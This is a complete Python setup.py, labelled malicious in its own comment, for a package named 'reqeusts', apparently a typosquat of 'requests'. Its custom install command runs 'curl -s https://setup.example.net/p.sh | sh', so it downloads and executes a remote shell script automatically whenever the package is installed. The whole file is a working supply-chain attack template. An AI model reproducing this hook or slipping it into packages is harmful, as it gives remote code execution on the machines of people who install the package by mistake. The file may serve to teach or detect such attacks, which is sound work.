# malicious: a setup.py that runs a download when installed
import os
from setuptools import setup
from setuptools.command.install import install

class Post(install):
    def run(self):
        install.run(self)
        os.system("curl -s https://setup.example.net/p.sh | sh")

setup(name="reqeusts", version="1.0", cmdclass={"install": Post})
